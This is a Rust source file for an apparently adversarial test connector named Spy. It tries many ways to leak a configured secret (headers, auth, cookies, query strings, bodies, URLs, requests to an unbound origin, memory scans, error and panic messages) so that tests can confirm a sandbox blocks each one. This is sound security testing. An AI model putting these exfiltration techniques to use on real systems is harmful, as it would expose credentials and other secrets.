//! A connector that tries everything to learn a secret, so that the tests can see that it does not.

mod memory;
mod system;
mod wasi;

use std::time::Duration;

use aloma_connector::http::{self, RequestBuilder};
use aloma_connector::{Error, Field, Result, Setup, config, connector, info};
use schemars::JsonSchema;
use serde::Deserialize;
use serde_json::{Value, json};

/// The controller.
#[derive(Default)]
pub struct Spy;

/// Where to ask, and what to look for.
#[derive(Deserialize, JsonSchema)]
pub struct Errand {
    /// An API that answers with everything that it got.
    echo: String,
    /// URLs whose answers hold the secret, each in another way.
    urls: Vec<String>,
    /// An origin that the secret is not bound to.
    elsewhere: String,
    /// What to look for in memory, in lower case. Each byte is masked, because the arguments are in
    /// memory, too.
    needles: Vec<Vec<u8>>,
    mask: u8,
}

/// Learns what it can.
#[connector]
impl Spy {
    #[setup]
    fn setup() -> Setup {
        Setup::new()
            .field(Field::line("SECRET"))
            // Known, to see that the search finds what is there.
            .field(Field::line("KNOWN").plain().optional())
    }

    /// tries everything, and tells backwards what it saw and where in memory the needles are
    pub async fn spy(&self, errand: Errand) -> Result<Value> {
        let key = config::require("SECRET")?;
        let mut seen = vec![key.clone(), format!("{:?}", config::get("KNOWN"))];
        seen.extend(system::look_around(&errand.echo));
        for request in ways(&errand.echo, &key) {
            seen.push(told(request).await);
        }
        for url in &errand.urls {
            seen.push(told(http::get(url).header("x-key", &key)).await);
            seen.push(told(http::post(url).json(&json!({ "key": key }))).await);
            seen.push(told(http::get(url)).await);
            seen.extend(wasi::ask(url, &key));
        }
        for request in refused(&errand, &key) {
            seen.push(told(request).await);
        }
        for text in &seen {
            info!("spy: {text}");
            println!("spy: {text}");
        }
        let found = memory::search(&errand.needles, errand.mask);
        let backwards = |text: &String| text.chars().rev().collect::<String>();
        Ok(json!({"seen": seen.iter().map(backwards).collect::<Vec<_>>(), "found": found}))
    }

    /// fails with all that it learns
    pub async fn fail(&self, errand: Errand) -> Result<()> {
        let key = config::require("SECRET")?;
        let mut seen = key.clone();
        for url in &errand.urls {
            seen += &told(http::get(url).header("x-key", &key)).await;
        }
        Err(Error::new("learned", seen))
    }

    /// panics with all that it learns
    pub async fn panic(&self, errand: Errand) -> Result<()> {
        let key = config::require("SECRET")?;
        let answer = told(http::get(&errand.echo).header("x-key", &key)).await;
        panic!("the secret is {key}: {answer}");
    }
}

/// Every place of a request that a secret can be in.
fn ways(url: &str, key: &str) -> Vec<RequestBuilder> {
    let pair = [("key", key), ("other", "1")];
    vec![
        http::get(url).header("x-key", key),
        http::get(url).bearer_auth(key),
        http::get(url).basic_auth("user", key),
        http::get(url).basic_auth(key, ""),
        http::get(url).header("cookie", format!("a=1; key={key}")),
        http::get(url).header("accept-encoding", "gzip").header("x-key", key),
        http::get(url).query(&pair),
        http::post(url).json(&json!({"key": key, "twice": json!({ "key": key }).to_string()})),
        http::post(url).form(&pair),
        http::post(url).header("content-type", "text/plain").body(key),
        http::post(url)
            .header("content-type", "application/octet-stream")
            .body([key, key].concat()),
        http::post(url).idempotency_key(key).body(key),
    ]
}

/// Requests that come to nothing, for the text of their failures.
fn refused(errand: &Errand, key: &str) -> Vec<RequestBuilder> {
    vec![
        http::get(format!("{}/{key}", errand.echo)),
        http::get(key),
        http::get(format!("http://{key}/")),
        http::get(format!("http://{key}@a.example/")),
        http::get(&errand.elsewhere).header("x-key", key),
        http::get(format!("{}?{key}", errand.elsewhere)),
        http::post(&errand.elsewhere).body(key),
        http::request(key, &errand.echo),
        http::get(&errand.echo).header(key, key),
        http::get(&errand.echo).header("x-key", format!("{key}\n")),
        http::get(&errand.echo).credential(key),
    ]
}

/// Everything that there is to know of an answer, or of a failure.
async fn told(request: RequestBuilder) -> String {
    match request.attempts(1).timeout(Duration::from_millis(500)).send().await {
        Ok(answer) => {
            let (text, bytes) = (answer.text().into_owned(), answer.bytes());
            format!("{} {:?} {text} {bytes:?}", answer.status(), answer.headers())
        }
        Err(error) => format!("{error} {error:?}"),
    }
}
